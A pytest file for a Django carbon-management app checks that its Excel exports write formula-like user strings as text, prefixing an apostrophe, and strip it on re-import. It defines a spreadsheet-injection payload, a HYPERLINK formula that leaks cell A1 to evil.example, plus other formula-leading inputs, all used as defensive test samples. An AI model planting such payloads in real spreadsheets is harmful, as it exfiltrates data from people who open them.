"""Excel formula injection: a user string that starts like a formula is written as text."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from carbonpeak.core.excel import safe_cell_value, table_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_no_formula(data: bytes) -> list:
    cells = list(_cells(data))
    formulas = [c.coordinate + ":" + str(c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    return [c.value for c in cells]


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"])
def test_formula_leading_strings_become_text(text):
    assert safe_cell_value(text) == "'" + text
    values = _assert_no_formula(table_workbook("导出", ["值"], [[text]]))
    assert "'" + text in values


@pytest.mark.parametrize(
    "value", [0, -3, 2.5, -1e9, None, True, dt.date(2025, 1, 1), "普通文本", "E01-01", ""]
)
def test_other_values_are_unchanged(value):
    assert safe_cell_value(value) == value


def test_numbers_stay_numbers_in_the_workbook():
    wb = load_workbook(io.BytesIO(table_workbook("导出", ["数值"], [[-12.5], [3]])))
    ws = wb.active
    numbers = [c.value for row in ws.iter_rows(min_row=3) for c in row]
    assert numbers == [-12.5, 3]
    assert all(c.data_type == "n" for row in ws.iter_rows(min_row=3) for c in row)


@pytest.mark.django_db
def test_alarm_export_writes_a_hostile_meter_code_as_text(office_client, enterprise, settings, tmp_path):
    from carbonpeak.monitoring.models import Alarm, Meter

    settings.METER_STORE_DIR = tmp_path / "meters"
    meter = Meter.objects.create(
        enterprise=enterprise, code=HYPERLINK, name="@总表", carrier="电力", unit="kWh"
    )
    Alarm.objects.create(
        key="t-1",
        enterprise=enterprise,
        meter=meter,
        kind=Alarm.Kind.choices[0][0],
        period="2025-01",
        message="-停报",
    )
    response = office_client.get("/monitoring/alarms.xlsx")
    assert response.status_code == 200
    values = _assert_no_formula(response.content)
    assert "'" + HYPERLINK in values
    assert "'-停报" in values


@pytest.mark.django_db
def test_ledger_and_indicator_exports_write_formulas_as_text():
    from carbonpeak.indicators.models import Indicator
    from carbonpeak.indicators.services import template_workbook
    from carbonpeak.plans.ledger_excel import export_ledger
    from carbonpeak.plans.models import Action, Plan, Task

    plan = Plan.objects.create(title="=1+1")
    action = Action.objects.create(plan=plan, number=1, title="+行动")
    Task.objects.create(action=action, code="1-1", number=1, title=HYPERLINK, text="@内容")
    values = _assert_no_formula(export_ledger(plan))
    assert "'" + HYPERLINK in values and "'@内容" in values

    ind = Indicator.objects.create(
        name=HYPERLINK, unit="=A1", comparator=">=", baseline_year=2020, baseline_value=1, target_year=2025
    )
    values = _assert_no_formula(template_workbook([ind]))
    assert "'" + HYPERLINK in values and "'=A1" in values


def test_supervision_and_scenario_workbooks_write_formulas_as_text():
    from carbonpeak.scenarios.views import add_sheets
    from carbonpeak.supervision.exports import workbook

    values = _assert_no_formula(workbook("督办", ["事项"], [[HYPERLINK]], note="=说明"))
    assert "'" + HYPERLINK in values and "'=说明" in values
    values = _assert_no_formula(
        add_sheets(table_workbook("情景", ["a"], []), [("版本", ["=h"], [[HYPERLINK, 1.5]])])
    )
    assert "'" + HYPERLINK in values and "'=h" in values and 1.5 in values


@pytest.mark.django_db
def test_ledger_round_trip_keeps_a_formula_leading_title():
    """Export, re-import: the apostrophe that disarmed the formula does not become part of the title."""
    from carbonpeak.plans.ledger_excel import export_ledger, read_ledger
    from carbonpeak.plans.models import Action, Plan, Task
    from carbonpeak.plans.services import department_registry

    plan = Plan.objects.create(title="方案")
    action = Action.objects.create(plan=plan, number=1, title="行动")
    Task.objects.create(action=action, code="1.1", number=1, title="-降低能耗", text="=内容")
    specs, errors = read_ledger(export_ledger(plan), plan=plan, registry=department_registry())
    assert [e for e in errors if e.column != "牵头单位"] == []
    assert (specs[0].title, specs[0].text) == ("-降低能耗", "=内容")
